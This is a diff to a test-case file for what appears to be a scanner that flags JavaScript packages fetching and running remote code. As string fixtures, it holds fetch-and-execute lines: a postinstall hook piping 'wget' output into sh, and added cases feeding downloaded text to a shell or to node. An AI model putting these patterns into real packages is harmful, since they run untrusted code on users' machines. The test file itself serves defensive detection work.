@@ -73,8 +73,20 @@ export default defineCases({
       manifest: { scripts: { postinstall: 'sh get.sh' } },
       files: { 'index.js': '', 'get.sh': '#!/bin/sh\nwget -qO- https://files.example/x | sh\n' },
     },
+    {
+      name: 'what a shell reads',
+      code: "const { spawn } = require('child_process');\nfetch('https://a.example/x').then((r) => r.text()).then((t) => { const p = spawn('sh'); p.stdin.end(t) });",
+    },
+    {
+      name: 'what node itself reads',
+      code: "const { spawnSync } = require('child_process');\nfetch('https://a.example/x').then((r) => r.text()).then((t) => spawnSync(process.execPath, ['-'], { input: t }));",
+    },
   ],
   ok: [
+    {
+      name: 'what a filter reads that is named elsewhere',
+      code: "const { spawnSync } = require('child_process');\nconst run = (file, args, options) => { [file, args, options] = wrap(file, args, options); return spawnSync(file, args, options) };\nexports.filter = () => fetch('https://a.example/x').then((r) => r.text()).then((t) => run('jq', ['.a'], { input: t }));",
+    },
     {
       name: 'a page that is opened, on each kind of machine',
       code: 'const { exec } = require(\'node:child_process\');\nexports.login = async () => {\n  const { url } = await (await fetch(\'https://login.weather.example/start\')).json();\n  let command;\n  if (process.platform === \'darwin\') command = `open "${url}"`;\n  else command = process.platform === \'win32\' ? `start "" "${url}"` : `xdg-open "${url}"`;\n  exec(command);\n};\nexports.login();',
